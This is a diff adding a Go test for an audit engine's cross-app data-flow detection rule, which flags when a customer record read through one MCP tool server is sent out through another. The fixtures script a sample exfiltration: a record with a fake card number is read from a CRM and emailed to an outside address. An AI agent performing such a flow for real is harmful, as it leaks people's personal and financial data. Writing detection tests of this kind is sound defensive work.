@@ -179,3 +179,35 @@ func BenchmarkEngine(b *testing.B) {
 	}
 	_ = e.Close()
 }
+
+func result(session, server, tool, args, text string) *audit.Event {
+	ev := call(session, server, tool, args)
+	ev.Status = audit.Status{Outcome: audit.OutcomeOK}
+	res, _ := json.Marshal(map[string]any{"content": []map[string]any{{"type": "text", "text": text}}})
+	ev.Detail = map[string]any{"result_fp": EncodeFingerprints(ValueFingerprints(res))}
+	return ev
+}
+
+func TestCrossAppFlow(t *testing.T) {
+	const record = "Customer record: Jane Example, account AC-99812734, card 4111-1111-1111-1111, address 12 Long Road, Springfield. Balance 1,234.56 EUR as of last statement."
+	read := result("s1", "crm", "get_customer", `{"id":"42"}`, record)
+	// The same content, re-wrapped and reformatted, sent to another server.
+	moved := result("s1", "mail", "send_email", `{"to":"x@example.com","body":"FYI --\nCustomer record: Jane Example,  account AC-99812734, card 4111-1111-1111-1111, address 12 Long Road, Springfield."}`, "sent")
+	got := run(t, []*audit.Event{read, moved}).rules()
+	if len(got) != 1 || got[0] != "mcp.cross_app_flow:high" {
+		t.Fatalf("record moved to an exfiltration tool: %v", got)
+	}
+	page := result("s1", "wiki", "get_page", `{"title":"Onboarding"}`, record)
+	notes := result("s1", "notes", "add_note", `{"text":"Customer record: Jane Example, account AC-99812734, card 4111-1111-1111-1111"}`, "ok")
+	if got := run(t, []*audit.Event{page, notes}).rules(); len(got) != 1 || got[0] != "mcp.cross_app_flow:medium" {
+		t.Fatalf("record moved to another server: %v", got)
+	}
+	// Benign twins: unrelated content to another server; the same content
+	// within the same server; another session.
+	other := result("s1", "mail", "send_email", `{"to":"x@example.com","body":"See you at the meeting on Tuesday; bring the slides."}`, "sent")
+	same := result("s1", "crm", "update_customer", `{"note":"Customer record: Jane Example, account AC-99812734, card 4111-1111-1111-1111"}`, "ok")
+	elsewhere := result("s2", "mail", "send_email", `{"body":"Customer record: Jane Example, account AC-99812734, card 4111-1111-1111-1111"}`, "sent")
+	if got := run(t, []*audit.Event{read, other, same, elsewhere}).rules(); len(got) != 0 {
+		t.Fatalf("benign: %v", got)
+	}
+}
